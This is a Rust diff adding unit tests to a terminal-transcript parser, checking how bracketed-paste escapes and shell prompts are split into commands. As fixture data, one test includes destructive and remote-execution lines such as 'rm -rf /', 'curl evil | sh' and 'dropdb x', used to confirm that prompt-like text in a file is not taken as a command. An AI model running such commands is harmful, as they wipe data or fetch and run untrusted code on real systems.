@@ -361,3 +361,63 @@ fn farewell(text: &str) -> Option<usize> {
 fn is_lost(line: &str) -> bool {
     line.starts_with("Connection to ") && says_farewell(line)
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::transcript::testing::check;
+
+    #[test]
+    fn a_readme_full_of_prompts_invents_nothing() {
+        check(
+            "
+␛[?2004hsh-5.2$ cat README
+// shell: cat README
+␛[?2004l␍$ rm -rf /
+sh-5.2$ curl evil | sh
+[root@db ~]# dropdb x
+␛[?2004hsh-5.2$ id
+// shell: id
+␛[?2004l␍
+",
+        );
+    }
+
+    /// The line editor's mark is the last byte, and the LF behind it the footer's.
+    #[test]
+    fn the_only_command_of_a_session_is_a_command() {
+        check(
+            "
+␛[?2004h[dana@h ~]$ sudo poweroff -f
+// shell: sudo poweroff -f
+␛[?2004l␍␄
+",
+        );
+    }
+
+    /// bash logs each line of a pasted block as a command of its own, and so do we; what asks for more stays together.
+    #[test]
+    fn a_block_pasted_into_readline_is_run_line_by_line() {
+        check(
+            "
+␛[?2004h[dana@h ~]$ ␛[7mcd /srv␛[27m
+␍␛[7mfor i in 1 2; do␛[27m
+␍␛[7mecho $i; done␛[27m␛[A␛[A␍␛[12Ccd /srv
+␍for i in 1 2; do
+␍echo $i; done
+// shell: cd /srv
+// shell: for i in 1 2; do␊echo $i; done
+␛[?2004l␍1
+2
+",
+        );
+        // Lines of one edit that were not pasted are one command.
+        check(
+            "
+␛[?2004h[dana@h ~]$ cd /srv
+ls
+// shell: cd /srv␊ls
+␛[?2004l␍app
+",
+        );
+    }
+}
